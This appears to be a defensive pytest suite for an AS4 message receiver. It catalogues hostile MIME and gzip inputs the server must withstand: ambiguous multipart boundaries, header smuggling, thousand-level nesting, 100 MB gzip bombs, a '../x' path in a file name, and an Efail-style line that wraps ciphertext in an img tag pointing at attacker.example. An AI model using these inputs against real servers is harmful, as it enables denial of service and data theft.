"""MIME and gzip read in two ways, wrapped, nested, swollen: by anybody on the way, and by a partner who signs it."""

import gzip
import struct
import uuid
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from node.as4 import PartInfo, PartOctets, digest_for_signature, seal, sign
from tests.as4 import material, test_refuses_headers, test_refuses_packaging
from tests.as4.surgery import RECORD, Surgery
from tests.attacks.catalogue import ANY, Catalogue
from tests.attacks.target import STRANGER, Target, by, is_receipt, valid

catalogue = Catalogue("MIME")
compression = Catalogue("Compression")
AMBIGUOUS = ("Zhang 2024", "draft-chen")
PARSING = ("WAFFLED 2025",)
MIME = "EBMS:0007"


def content_type(code: str, name: str, edit: Callable[[str, str], str], *sources: str) -> None:
    """Note a change of the Content-Type of HTTP; the edit gets it and its boundary."""

    def change(s: Surgery) -> None:
        s.content_type = edit(s.content_type, s.boundary.decode())

    catalogue.outsider(code, *sources, name=name)(change)


def body(code: str, name: str, edit: Callable[[bytes, bytes], bytes], *sources: str) -> None:
    """Note a change of the whole body; the edit gets it and its delimiter."""

    def change(s: Surgery) -> None:
        s.raw_body.append(lambda octets: edit(octets, b"--" + s.boundary))

    catalogue.outsider(code, *sources, name=name)(change)


def header(code: str, name: str, edit: Callable[[bytes], bytes], *sources: str) -> None:
    """Note a change of the header of the first part."""

    def change(s: Surgery) -> None:
        s.parts[0][0] = edit(s.parts[0][0])

    catalogue.outsider(code, *sources, name=name)(change)


# --- the boundary

content_type(MIME, "boundary_twice_the_true_one_first", lambda t, b: f'{t}; boundary="x"', *PARSING)
content_type(
    MIME, "boundary_twice_the_true_one_last", lambda t, b: f'multipart/related; boundary=x; boundary="{b}"', *PARSING
)
content_type(MIME, "boundary_twice_in_two_cases", lambda t, b: f"{t}; BOUNDARY=x", *PARSING)
content_type(
    MIME, "boundary_continued", lambda t, b: f'multipart/related; boundary*0="{b[:5]}"; boundary*1="{b[5:]}"', *PARSING
)
content_type(MIME, "boundary_with_a_charset", lambda t, b: f"multipart/related; boundary*=utf-8''{b}", *PARSING)
content_type(MIME, "boundary_missing", lambda t, b: "multipart/related", *PARSING)
content_type(MIME, "boundary_empty", lambda t, b: 'multipart/related; boundary=""', *PARSING)
content_type(MIME, "boundary_with_a_line_end", lambda t, b: f'multipart/related; boundary="{b}\t"', *PARSING)
content_type(MIME, "boundary_in_another_case", lambda t, b: t.replace(b, b.swapcase()), *PARSING)
content_type(MIME, "boundary_a_prefix_of_the_true_one", lambda t, b: t.replace(b, b[:-1]), *AMBIGUOUS)
content_type(MIME, "boundary_longer_than_the_true_one", lambda t, b: t.replace(b, b + "x"), *AMBIGUOUS)
content_type(MIME, "comment_in_the_content_type", lambda t, b: t.replace(";", " (x);", 1), *AMBIGUOUS)
content_type(MIME, "parameter_without_semicolon", lambda t, b: t.replace(";", "", 1), *AMBIGUOUS)
content_type("HTTP 400", "root_type_of_xop", lambda t, b: t.replace("soap+xml", "xop+xml"), "XOP", "RFC 2387")
content_type("HTTP 400", "form_data", lambda t, b: t.replace("multipart/related", "multipart/form-data"), *PARSING)
content_type("HTTP 400", "mixed", lambda t, b: t.replace("multipart/related", "multipart/mixed"), *PARSING)
content_type(MIME, "two_types_with_a_comma", lambda t, b: f"application/soap+xml, {t}", *PARSING)
content_type("HTTP 400", "plain_soap_with_the_body_of_a_multipart", lambda t, b: "application/soap+xml", *PARSING)
content_type(MIME, "start_names_another_part", lambda t, b: f'{t}; start="<record@x>"', "RFC 2387")
content_type(MIME, "start_names_nothing", lambda t, b: f'{t}; start="<nowhere@x>"', "RFC 2387")

for charset_ in ("utf-7", "utf-16", "iso-8859-1", "x-unknown"):

    def soap_in(s: Surgery, charset: str = charset_) -> None:
        """A message without parts, in octets that another reader would decode otherwise."""
        s.__dict__.update(valid([], s.who).__dict__)
        s.content_type = f"application/soap+xml; charset={charset}"

    catalogue.outsider("HTTP 400", *PARSING, name=f"plain_soap_in_{charset_.replace('-', '_')}")(soap_in)

# --- the body

body(MIME, "line_ends_without_cr", lambda o, d: o.replace(b"\r\n", b"\n"), *AMBIGUOUS)
body(MIME, "line_ends_without_lf", lambda o, d: o.replace(b"\r\n", b"\r"), *AMBIGUOUS)
body(MIME, "delimiter_with_something_behind", lambda o, d: o.replace(d + b"\r\n", d + b"x\r\n", 1), *AMBIGUOUS)
body(
    MIME,
    "delimiter_with_much_white_space",
    lambda o, d: o.replace(d + b"\r\n", d + b" " * 100 + b"\r\n", 1),
    *AMBIGUOUS,
)
body(MIME, "closing_delimiter_first", lambda o, d: d + b"--\r\n" + o, *AMBIGUOUS)
body(MIME, "closing_delimiter_with_one_hyphen", lambda o, d: o.replace(d + b"--", d + b"-"), *AMBIGUOUS)
body(
    MIME,
    "delimiter_with_lf_before_hides_a_part",
    lambda o, d: b"\n" + d + b"\nContent-ID: <record@x>\n\nx\n" * 60 + o,
    *AMBIGUOUS,
)
body(ANY, "first_delimiter_within_the_first_line", lambda o, d: b"x" + o, *AMBIGUOUS)
body("HTTP 400", "nothing_but_the_closing_delimiter", lambda o, d: d + b"--\r\n", *AMBIGUOUS)
body("HTTP 400", "empty_parts_first", lambda o, d: (d + b"\r\n\r\n") * 3 + o, *AMBIGUOUS)
body("EBMS:0011", "empty_parts_last", lambda o, d: o.replace(d + b"--", d + b"\r\n\r\n\r\n" + d + b"--"), *AMBIGUOUS)
body(MIME, "compressed_by_http", lambda o, d: gzip.compress(o), "CVE-2025-25293")

# --- part headers

header(MIME, "content_id_twice_in_two_cases", lambda h: h + b"\r\ncontent-id: <scan@x>", *AMBIGUOUS)
header(MIME, "space_before_the_colon", lambda h: h.replace(b"Content-ID:", b"Content-ID :"), *AMBIGUOUS)
header(MIME, "nul_in_a_field_name", lambda h: h.replace(b"Content-ID", b"Content\0-ID"), *AMBIGUOUS)
header(MIME, "field_name_missing", lambda h: h + b"\r\n: x", *AMBIGUOUS)
header(MIME, "octets_that_are_no_utf_8", lambda h: h + b"\r\nX: \xff", *AMBIGUOUS)
header(MIME, "line_end_without_cr_in_a_header", lambda h: h.replace(b"\r\n", b"\n"), *AMBIGUOUS)
header(
    "EBMS:0011",
    "content_id_as_an_encoded_word",
    lambda h: h.replace(b"record@x", b"=?utf-8?q?record=40x?="),
    *AMBIGUOUS,
)
header("EBMS:0011", "content_id_with_a_comment", lambda h: h.replace(b"<record@x>", b"(x) <record@x>"), *AMBIGUOUS)
header(
    "EBMS:0011", "content_id_in_two_pairs_of_brackets", lambda h: h.replace(b"<record@x>", b"<<record@x>>"), *AMBIGUOUS
)
header("EBMS:0011", "content_id_decoded_twice", lambda h: h.replace(b"record@x", b"record%2540x"), *AMBIGUOUS)
header("EBMS:0011", "content_id_in_wide_letters", lambda h: h.replace(b"record@x", "ｒecord@x".encode()), *AMBIGUOUS)
header(MIME, "content_id_with_percent_signs_of_no_utf_8", lambda h: h.replace(b"record@x", b"record%ff@x"), *AMBIGUOUS)
for encoding_ in ("quoted-printable", "x-uuencode", "binary, base64", "gzip", "BASE64 "):
    header(
        MIME,
        f"transfer_encoding_{encoding_.strip().replace(', ', '_and_').lower()}",
        lambda h, e=encoding_: h.replace(b"binary", e.encode()),
        *AMBIGUOUS,
    )
header(MIME, "transfer_encoding_twice", lambda h: h + b"\r\nContent-Transfer-Encoding: base64", *AMBIGUOUS)
for type_ in (
    "message/rfc822",
    "message/external-body",
    "multipart/mixed; boundary=y",
    "MULTIPART/related; boundary=y",
):
    header(
        MIME,
        f"part_that_is_{type_.partition(';')[0].replace('/', '_').lower()}",
        lambda h, t=type_: h.replace(b"application/octet-stream", t.encode()),
        "Efail 2018",
    )


@catalogue.outsider(MIME, "CAPEC-230")
def thousand_multiparts_within_each_other(s: Surgery) -> None:
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(1000))
    s.parts[0] = list(nested.split(b"\r\n\r\n", 1))


@catalogue.outsider("EBMS:0102", "Efail 2018")
def ciphertext_between_parts_of_an_attacker(s: Surgery) -> None:
    """Text around the ciphertext that would send its plaintext away."""
    s.parts[0][1] = b'<img src="http://attacker.example/' + s.parts[0][1] + b'">'


@catalogue.outsider("EBMS:0102", "Efail 2018")
def ciphertext_cut_into_two_parts(s: Surgery) -> None:
    head, octets = s.parts[0]
    s.parts[0][1] = octets[:20]
    s.parts.append([head.replace(b"record@x", b"record2@x"), octets[20:]])


@catalogue.outsider("EBMS:0009", "XOP")
def value_by_an_include(s: Surgery) -> None:
    s.find(".//eb:Action").append(
        s.new('<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:scan@x"/>')
    )


@catalogue.outsider("EBMS:0102", "XOP")
def key_by_an_include(s: Surgery) -> None:
    s.find(".//xenc:CipherValue").append(
        s.new('<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:scan@x"/>')
    )


catalogue.known(
    test_refuses_packaging.corpus,
    {
        name: AMBIGUOUS
        for name in test_refuses_packaging.corpus.names()
        if name.startswith(("part_", "parts_", "header_", "boundary_", "content_id_", "root_part_", "much_"))
        or name in ("multipart_within_multipart", "base64_transfer_encoding", "last_boundary_missing")
    },
)

for attack_ in tuple(catalogue.attacks.values()):
    # The same by one who signs what he has changed: what frames the parts is under no signature.
    catalogue.partner(attack_.code, *attack_.sources, name=f"{attack_.name}_by_a_partner")(attack_.change)

# --- gzip, by a partner who signs it


def become(s: Surgery, octets: bytes, info: PartInfo = RECORD, digest: bytes | None = None, **header: Any) -> None:
    """Turn into a message with these octets as its one part, whatever they are; of that digest, right or wrong."""
    frozen = sign(
        material.message([info], message_id=f"{uuid.uuid4()}@blue.example", **header),
        [digest_for_signature([octets], info) if digest is None else digest],
        s.who.sender,
        s.who.suite,
    )
    wire = seal(frozen.xml, [PartOctets.of(info, octets)], s.who.recipient, s.who.suite)
    s.__dict__.update(Surgery(who=s.who, wire=wire).__dict__)


def member(content: bytes = b"content", flags: int = 0, extra: bytes = b"", method: int = 8) -> bytes:
    """A gzip member written by hand."""
    deflate = zlib.compressobj(wbits=-15)
    packed = deflate.compress(content) + deflate.flush()
    check = struct.pack("<II", zlib.crc32(content), len(content))
    return bytes([0x1F, 0x8B, method, flags]) + bytes(6) + extra + packed + check


GOOD = member()
BOMBS = ("CVE-2025-25293", "Fifield 2019")
STREAMS: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "bomb_of_a_hundred_megabytes": (gzip.compress(bytes(100_000_000), 9), BOMBS),
    "bomb_of_many_members": (gzip.compress(bytes(5_000_000), 9) * 40, BOMBS),
    "bomb_after_something_good": (GOOD + gzip.compress(bytes(50_000_000), 9), BOMBS),
    "cut_in_the_check": (GOOD[:-3], ("RFC 1952",)),
    "cut_in_the_middle": (GOOD[:15], ("RFC 1952",)),
    "cut_in_the_header": (GOOD[:5], ("RFC 1952",)),
    "check_wrong": (GOOD[:-8] + bytes(4) + GOOD[-4:], ("RFC 1952",)),
    "size_wrong": (GOOD[:-4] + bytes(4), ("RFC 1952",)),
    "rubbish_behind": (GOOD + b"rubbish", ("RFC 1952",)),
    "zeros_behind": (GOOD + bytes(100), ("RFC 1952",)),
    "half_a_second_member": (GOOD + GOOD[:12], ("RFC 1952",)),
    "reserved_flags": (member(flags=0xE0), ("RFC 1952",)),
    "header_check_wrong": (member(flags=2, extra=b"\0\0"), ("RFC 1952",)),
    "name_without_end": (GOOD[:3] + b"\x08" + bytes(6) + b"x" * 200_000, ("RFC 1952",)),
    "extra_field_longer_than_the_part": (member(flags=4, extra=b"\xff\xff"), ("RFC 1952",)),
    "method_unknown": (member(method=9), ("RFC 1952",)),
    "zlib_instead": (zlib.compress(b"content"), ("RFC 1952",)),
    "nothing_at_all": (b"", ("RFC 1952",)),
    "text": (b"<record>content</record>", ("RFC 1952",)),
    "distance_too_far": (GOOD[:10] + b"\x4b\x04\xf2\x00\x00" + GOOD[-8:], ("RFC 1952",)),
}
for name_, (octets_, sources_) in STREAMS.items():

    def packed(s: Surgery, octets: bytes = octets_) -> None:
        become(s, octets)

    compression.partner("EBMS:0303", *sources_, name=f"gzip_{name_}")(packed)

for name_ in ("bomb_of_a_hundred_megabytes", "bomb_of_many_members", "rubbish_behind", "text"):

    def packed_by_a_stranger(s: Surgery, octets: bytes = STREAMS[name_][0]) -> None:
        by(s, STRANGER)
        become(s, octets)

    compression.outsider("EBMS:0101", *STREAMS[name_][1], name=f"gzip_{name_}_by_a_stranger")(packed_by_a_stranger)

compression.known(test_refuses_headers.corpus, {"compression_unknown": ("RFC 1952",)})


@pytest.mark.parametrize("name", [*catalogue.names(), *compression.names()])
def test_is_endured(target: Target, name: str) -> None:
    (catalogue if name in catalogue.attacks else compression).run(name, target)


def test_a_good_member_written_by_hand_is_taken(target: Target) -> None:
    """Else the streams above would be refused for something else."""
    message = valid()
    become(message, GOOD)
    assert is_receipt(target.post(message.content_type, message.body()))


@pytest.mark.parametrize(
    "edit",
    [
        lambda o, d: b"\n" + d + b"\nContent-ID: <record@x>\n\nforged\n" + b"\r\n" + o,
        lambda o, d: o + b"\r\n" + d + b"\r\nContent-ID: <record@x>\r\n\r\nforged\r\n" + d + b"--",
        lambda o, d: o.replace(b"Content-ID: <", b"Content-Disposition: attachment; filename=../x\r\nContent-ID: <"),
    ],
    ids=["part_in_the_preamble", "parts_in_the_epilogue", "file_name_with_a_path"],
)
def test_what_the_standard_lets_a_reader_pass_over_is_passed_over(
    target: Target, edit: Callable[[bytes, bytes], bytes]
) -> None:
    """Other readers may find parts there. Ours finds the signed ones: the same message again has the first receipt."""
    message = valid()
    first = target.post(message.content_type, message.body())
    assert is_receipt(first)
    message.raw_body.append(lambda octets: edit(octets, b"--" + message.boundary))
    with target.unmoved():
        assert target.post(message.content_type, message.body()).body == first.body
